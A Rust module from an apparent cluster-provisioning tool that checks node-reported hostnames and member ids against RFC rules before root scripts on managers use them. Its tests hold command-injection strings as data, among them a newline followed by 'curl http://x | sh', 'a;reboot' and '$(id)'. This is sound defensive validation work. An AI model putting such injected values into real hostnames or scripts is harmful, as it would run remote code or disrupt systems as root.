//! What a node or a manager reports about members (hostnames, member ids)
//! is untrusted input: a worker controls its own hostname, which Swarm and
//! Mesos report as-is. It reaches scripts run as root on managers only in a
//! form checked here; anything else is refused before any script sees it.

use provision_provider::Role;

/// What a node says of itself.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct NodeProbe {
    /// The container engine is installed and answering.
    pub engine_running: bool,
    /// The node is a member of a cluster.
    pub joined: bool,
    /// The orchestrator's id for the node, when joined.
    pub member_id: Option<String>,
    /// The node can manage the cluster (a manager with quorum).
    pub control: bool,
    /// The node runs with a view of the cluster's managers that is out of
    /// date (Mesos: another master count or ZooKeeper list than the
    /// ensemble's now): the orchestrator's `reconfigure` brings it up to date.
    pub config_stale: bool,
    /// When its certificates expire, as it reads them.
    pub certificates: CertificateExpiry,
}

/// When a node's certificates expire (Unix seconds), as the node reads
/// them: the nearest of its own (leaf) certificates and of the CAs it
/// trusts. `None`: it has none of that kind, or could not tell. Untrusted:
/// only used when within [`MIN_EXPIRY`] and [`MAX_EXPIRY`].
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct CertificateExpiry {
    pub leaf: Option<i64>,
    pub ca: Option<i64>,
}

/// 2001-09-09: no certificate a node reports expires before (an expired
/// one is still after it).
pub const MIN_EXPIRY: i64 = 1_000_000_000;
/// Year 2500: beyond any certificate a supported orchestrator makes.
pub const MAX_EXPIRY: i64 = 16_725_225_600;

impl CertificateExpiry {
    /// A reported `KEY=SECONDS` value, if it is a time a certificate could
    /// expire at.
    pub fn parse_time(value: Option<&str>) -> Option<i64> {
        value?
            .trim()
            .parse::<i64>()
            .ok()
            .filter(|t| (MIN_EXPIRY..=MAX_EXPIRY).contains(t))
    }

    /// The nearer of the two.
    pub fn nearest(&self) -> Option<i64> {
        match (self.leaf, self.ca) {
            (Some(a), Some(b)) => Some(a.min(b)),
            (a, b) => a.or(b),
        }
    }
}

/// A node as the orchestrator's membership lists it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Member {
    pub id: String,
    pub hostname: String,
    pub role: Role,
    /// The orchestrator considers it up (Swarm Ready, Kubernetes Ready).
    pub ready: bool,
    /// The orchestrator's own words for its state, for display.
    pub status: String,
}

/// The longest hostname DNS allows (RFC 1123 §2.1, RFC 1035 §2.3.4).
const MAX_HOSTNAME: usize = 253;
/// Longer than any id a supported orchestrator makes: Swarm's are 25
/// characters, Kubernetes node names ≤ 253 (a DNS subdomain), Mesos agent
/// ids a UUID plus `-S<n>`.
const MAX_MEMBER_ID: usize = 253;

/// A hostname as RFC 1123 allows it: dot-separated labels of 1–63 letters,
/// digits and inner hyphens.
pub fn is_hostname(name: &str) -> bool {
    !name.is_empty()
        && name.len() <= MAX_HOSTNAME
        && name.split('.').all(|label| {
            !label.is_empty()
                && label.len() <= 63
                && !label.starts_with('-')
                && !label.ends_with('-')
                && label
                    .bytes()
                    .all(|b| b.is_ascii_alphanumeric() || b == b'-')
        })
}

/// A member id as the orchestrators make them: letters, digits, `.`, `-`,
/// `_` and `:` (an IPv6 address), starting with a letter or digit.
pub fn is_member_id(id: &str) -> bool {
    id.len() <= MAX_MEMBER_ID
        && id.bytes().next().is_some_and(|b| b.is_ascii_alphanumeric())
        && id
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-' | b'_' | b':'))
}

/// Why a listed member cannot be used, if it cannot.
pub fn refuse_member(member: &Member) -> Option<String> {
    if !is_member_id(&member.id) {
        return Some(format!(
            "a member with an id that is not one an orchestrator makes ({:?}) was ignored",
            shown(&member.id)
        ));
    }
    if !is_hostname(&member.hostname) {
        return Some(format!(
            "member {} reports a hostname that is not a valid one ({:?}) and was ignored; \
             its node may be compromised or misconfigured",
            member.id,
            shown(&member.hostname)
        ));
    }
    None
}

/// Why a node's report of itself cannot be used, if it cannot.
pub fn refuse_probe(node: &str, probe: &NodeProbe) -> Option<String> {
    let id = probe.member_id.as_deref()?;
    (!is_member_id(id)).then(|| {
        format!(
            "{node} reports a member id that is not one an orchestrator makes ({:?}): \
             its report was not used",
            shown(id)
        )
    })
}

/// At most 64 characters of an untrusted value, for a message.
fn shown(value: &str) -> String {
    value.chars().take(64).collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use provision_provider::Role;

    fn member(id: &str, hostname: &str) -> Member {
        Member {
            id: id.into(),
            hostname: hostname.into(),
            role: Role::Worker,
            ready: true,
            status: "Ready".into(),
        }
    }

    #[test]
    fn real_ids_and_hostnames_pass() {
        for (id, host) in [
            ("x7kq2m0c1v9d8e3f4g5h6j7k8", "web-worker-1"),
            (
                "5f3c1a2e-8b4d-4e6f-9a0b-1c2d3e4f5a6b-S0",
                "ip-10-0-0-5.ec2.internal",
            ),
            ("10.0.0.5", "10.0.0.5"),
            ("fd00::5", "k8s-manager-1"),
        ] {
            assert_eq!(refuse_member(&member(id, host)), None, "{id} {host}");
        }
    }

    #[test]
    fn a_hostname_that_could_break_out_of_a_script_is_refused() {
        for host in [
            "evil\ncurl http://x | sh",
            "a;reboot",
            "$(id)",
            "`id`",
            "a b",
            "",
            "-leading",
            "trailing-.x",
            "a..b",
            &"a".repeat(64),
        ] {
            let why = refuse_member(&member("abc", host)).expect(host);
            assert!(!why.contains('\n'), "{why}");
        }
    }

    #[test]
    fn an_id_that_is_not_an_orchestrators_is_refused() {
        for id in ["", "-x", "a\nb", "a'b", "a/b", "a b", &"a".repeat(254)] {
            assert!(refuse_member(&member(id, "ok")).is_some(), "{id:?}");
        }
        let probe = NodeProbe {
            engine_running: true,
            joined: true,
            member_id: Some("x\n#".into()),
            control: false,
            config_stale: false,
            certificates: Default::default(),
        };
        assert!(refuse_probe("web-worker-1", &probe).is_some());
    }
}
